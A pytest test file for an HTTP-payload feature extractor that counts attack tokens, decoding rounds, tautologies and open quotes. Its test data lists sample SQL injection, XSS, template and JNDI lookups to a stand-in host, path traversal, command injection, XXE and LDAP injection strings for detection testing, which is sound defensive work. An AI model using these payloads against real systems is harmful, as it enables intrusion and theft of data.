"""Parts of web payloads: attacks are told by class, through their encoding."""

import pytest

from phantom_ml.data.schema import ColumnKind
from tests.features.columns.made import computed, fitted, parts_of


def parts(payload: str) -> dict:
    return computed("http_payload", [payload]).row(0, named=True)


ATTACKS = [
    ("sql", "1' union all select user,password from users--"),
    ("sql", "1; drop table users"),
    ("sql", "1 and sleep(5)"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("template", "{{7*7}}"),
    ("template", "${jndi:ldap://evil.test/a}"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..\\..\\boot.ini"),
    ("command", "a;/usr/bin/id"),
    ("command", "x | cat /etc/hosts"),
    ("command", "`ping 127.0.0.1`"),
    ("xxe", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ("ldap", "*)(uid=*))(|(uid=*"),
]
HARMLESS = [
    "santa eulalia de oscos",
    "Jane O'Neil",
    "jane@corp.com",
    "9528500439395561",
    "calle 5, 2b",
]


@pytest.mark.parametrize(("kind", "payload"), ATTACKS)
def test_tokens_of_an_attack_are_counted_in_its_class(kind, payload):
    assert parts(payload)[f"{kind}_count"] > 0


@pytest.mark.parametrize("payload", HARMLESS)
def test_harmless_values_hold_no_tokens_of_an_attack(payload):
    assert parts(payload)["keyword_density"] == 0


@pytest.mark.parametrize(
    "payload",
    [
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Cscript%253Ealert(1)%253C/script%253E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#x3c;script&#62;alert(1)&#x3c;/script&#62;",
        "%u003cscript%u003ealert(1)%u003c/script%u003e",
        "<SCRIPT>alert(1)</SCRIPT>",
    ],
)
def test_encoding_and_capitals_hide_no_tokens(payload):
    plain = parts("<script>alert(1)</script>")
    assert parts(payload)["xss_count"] == plain["xss_count"]


def test_nothing_of_an_empty_payload_is_encoded():
    assert parts("")["encoded_share"] == 0


def test_decoding_is_counted_and_measured():
    found = parts("%2527")
    assert (found["decoding_rounds"], found["length"], found["quote_count"]) == (2, 5, 1)
    assert found["encoded_share"] == pytest.approx(0.8)
    assert found["percent_share"] == pytest.approx(0.2)


@pytest.mark.parametrize(
    "payload",
    ["1 or 1=1", "1' or '1'='1", 'x" and "a" like "a', "1)+or+(5=5", "admin' or true--", "1||1=1"],
)
def test_a_condition_that_is_always_true_is_told(payload):
    assert parts(payload)["has_tautology"]


@pytest.mark.parametrize("payload", ["1 or 1=2", "colour=red", "a=a", "this or that", ""])
def test_other_conditions_are_not(payload):
    assert not parts(payload)["has_tautology"]


def test_quotes_and_brackets_that_stay_open_are_told():
    payloads = ["'a'", "'a", "f(x)", "f(x))", "a[1]{b}"]
    found = computed("http_payload", payloads)
    assert found["has_open_quote"].to_list() == [False, True, False, False, False]
    assert found["has_open_bracket"].to_list() == [False, False, False, True, False]
    assert found["quote_count"].to_list() == [2, 1, 0, 0, 0]
    assert found["bracket_count"].to_list() == [0, 0, 2, 3, 4]


def test_comments_are_counted():
    assert parts("1'/**/or/**/1=1-- -")["comment_count"] == 5


def test_parameters_and_their_longest_value_are_measured():
    found = parts("a=1&bcd=12345&e=")
    assert (found["parameter_count"], found["longest_value"]) == (2, 5)


@pytest.mark.parametrize(
    ("payload", "count"),
    [
        ("id=1' or 1=1--", 1),
        ("GET /x?a=1&b=2 HTTP/1.1", 2),
        ("sid=a; lang=en; t=b", 3),
        ("?x=YWI==", 1),
        ('<a href="b">', 0),
        ("word", 0),
    ],
)
def test_a_comparison_in_a_value_is_no_parameter(payload, count):
    assert parts(payload)["parameter_count"] == count


def test_shares_and_runs_are_of_the_decoded_text():
    found = parts("ab%20%27%27%27%27")
    assert (found["letter_share"], found["special_share"]) == pytest.approx((2 / 7, 4 / 7))
    assert found["longest_special_run"] == 4


def test_the_method_of_a_request_line_is_told():
    lines = ["GET /a?b=1 HTTP/1.1", "'POST /x HTTP/1.1'", "getting /x", "a=1"]
    assert computed("http_payload", lines)["method"].to_list() == ["GET", "POST", None, None]


def test_a_missing_payload_has_no_parts():
    values = ["a" * i + "'" * (i % 3) for i in range(20)]
    found = parts_of(fitted("http_payload", values, ColumnKind.HTTP_PAYLOAD), [None])
    assert found.row(0) == (None,) * found.width
